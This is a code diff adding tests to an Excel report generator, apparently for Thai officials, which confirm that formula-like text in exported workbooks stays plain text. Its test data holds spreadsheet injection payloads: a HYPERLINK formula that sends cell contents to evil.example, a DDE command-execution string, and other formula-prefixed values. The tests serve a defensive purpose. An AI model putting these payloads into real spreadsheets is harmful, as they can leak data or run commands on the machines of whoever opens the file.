@@ -90,3 +90,53 @@ def test_a_long_letterhead_is_cut_to_what_an_excel_page_header_holds() -> None:
     sheet = workbook(document(letterhead="ก" * 300))[MEASURES_SHEET]
     left, centre = sheet.oddHeader.left.text, sheet.oddHeader.center.text
     assert left.endswith("…") and len(left) + len(centre) <= HEADER_CHARS
+
+
+# -- issue 21 case 6: an officer's text is never a live formula -------------------------------
+EVIL = {
+    "measure_th": '=HYPERLINK("http://evil.example/steal?d="&B2,"คลิก")',
+    "steps_th": ["=1+1", "+SUM(1,2)", "@cmd", "-ขั้นตอนที่มีขีดนำ"],
+    "unit_th": "=cmd|'/C calc'!A0",
+}
+
+
+def evil_params() -> Any:
+    import yaml
+
+    overrides = yaml.safe_load(PARAMS.read_text(encoding="utf-8"))["theme_overrides"]
+    overrides["work_process"]["below_target"].update(EVIL)
+    return load_params(PARAMS, theme_overrides=overrides)
+
+
+def assert_text_only(data: bytes, texts: list[str]) -> None:
+    """No cell of the saved workbook is a formula, and each text shows as written."""
+    from ita_report.thai import to_arabic_digits
+
+    book = openpyxl.load_workbook(io.BytesIO(data))  # not data_only: formulas would show
+    shown = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    shown.append(to_arabic_digits(cell.value))  # the report's Thai digits
+                    if cell.value.startswith(("=", "+", "-", "@")):
+                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
+    for text in texts:
+        assert any(text in value for value in shown), text
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
+
+
+def test_formula_like_text_in_the_measures_workbook_stays_text() -> None:
+    doc = build_document(evil_params())
+    assert_text_only(xlsx_bytes(doc), [EVIL["measure_th"], EVIL["unit_th"], *EVIL["steps_th"]])
+
+
+def test_formula_like_text_in_the_progress_command_stays_text(tmp_path: Path) -> None:
+    from ita_report.officer.progress import progress_bytes
+
+    doc = build_document(evil_params())
+    assert_text_only(progress_bytes(doc), [EVIL["measure_th"], "=1+1"])
